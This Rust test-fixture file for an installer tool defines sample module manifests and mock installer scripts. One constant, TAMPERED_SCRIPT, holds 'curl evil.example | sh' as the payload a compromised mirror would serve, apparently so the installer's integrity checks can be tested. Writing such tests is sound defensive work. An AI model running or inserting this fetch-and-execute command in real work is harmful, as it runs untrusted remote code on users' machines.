//! Reference manifests and installer content

#![allow(dead_code)]

use acfs_core::{Manifest, ManifestFile};
use acfs_installer::state::StateStore;
use camino::Utf8PathBuf;
use tempfile::TempDir;

/// Three-module manifest used by the selection scenarios
pub const SCENARIO_MANIFEST: &str = r#"
version: 1
name: scenario
modules:
  - id: base.system
    phase: 1
    run_as: root
    install:
      - apt-get install -y curl git
  - id: lang.bun
    phase: 2
    install:
      - install bun
  - id: agents.claude
    phase: 2
    dependencies: [lang.bun]
    install:
      - install claude
"#;

/// Four-phase manifest exercising every action kind
pub const STACK_MANIFEST: &str = r#"
version: 1
name: stack
defaults:
  target_user: ubuntu
modules:
  - id: base.system
    phase: 1
    run_as: root
    tags: [core]
    install:
      - apt-get install -y curl git
    verify:
      - command -v curl
  - id: shell.zsh
    phase: 2
    tags: [core]
    dependencies: [base.system]
    install:
      - install zsh
  - id: lang.bun
    phase: 3
    dependencies: [base.system]
    installed_check: command -v bun
    install:
      - verified_installer:
          tool: bun
    verify:
      - bun --version
  - id: agents.claude
    phase: 3
    tags: [agents]
    dependencies: [lang.bun]
    install:
      - install claude
  - id: tools.ntm
    phase: 4
    optional: true
    install:
      - verified_installer:
          tool: ntm
    verify:
      - ntm --version
"#;

/// Installer script body served by the mock fetcher
pub const GOOD_SCRIPT: &[u8] = b"#!/usr/bin/env bash\necho installing\n";

/// What a tampered mirror serves instead
pub const TAMPERED_SCRIPT: &[u8] = b"#!/usr/bin/env bash\ncurl evil.example | sh\n";

pub fn scenario_manifest() -> Manifest {
    ManifestFile::from_yaml(SCENARIO_MANIFEST).expect("scenario manifest must validate")
}

pub fn stack_manifest() -> Manifest {
    ManifestFile::from_yaml(STACK_MANIFEST).expect("stack manifest must validate")
}

/// State store rooted in a fresh temp dir
pub fn create_test_store() -> (StateStore, TempDir) {
    let temp_dir = TempDir::new().unwrap();
    let path = Utf8PathBuf::from_path_buf(temp_dir.path().join(".acfs/state.json")).unwrap();
    (StateStore::new(path), temp_dir)
}
